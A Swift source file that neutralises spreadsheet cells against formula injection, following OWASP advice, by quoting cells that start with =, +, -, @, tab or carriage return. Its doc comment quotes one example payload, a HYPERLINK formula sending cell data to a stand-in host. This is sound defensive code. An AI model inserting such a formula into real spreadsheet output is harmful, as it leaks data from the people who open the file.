/// Text for a cell of a table a spreadsheet may open (CSV, or a Markdown table pasted or
/// imported into one), made safe from formula injection.
///
/// A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula, so a roster name
/// such as `=HYPERLINK("http://evil.example/?"&A1)` could send data away or run a command when a
/// coordinator opens the output. As OWASP's "CSV Injection" advises, such a cell is prefixed with
/// a single quote, which the spreadsheet shows as text. Leading spaces don't hide the sign (some
/// importers trim them), and a cell starting with a tab or carriage return is prefixed too.
/// Apply it to text from users, not to numbers the program computed (a negative count stays a number).
public enum SpreadsheetCell {
    /// Characters that make a spreadsheet read a cell as a formula.
    public static let formulaStarts: Set<Character> = ["=", "+", "-", "@"]

    /// `text` with a `'` in front when a spreadsheet would read it as a formula; otherwise as it is.
    public static func neutralised(_ text: String) -> String {
        needsQuote(text) ? "'" + text : text
    }

    /// True when a spreadsheet would read `text` as a formula (or a control character starts it).
    public static func needsQuote(_ text: String) -> Bool {
        guard let first = text.unicodeScalars.first else { return false }
        if first == "\t" || first == "\r" { return true }
        guard let sign = text.first(where: { $0 != " " }) else { return false }
        return formulaStarts.contains(sign)
    }
}
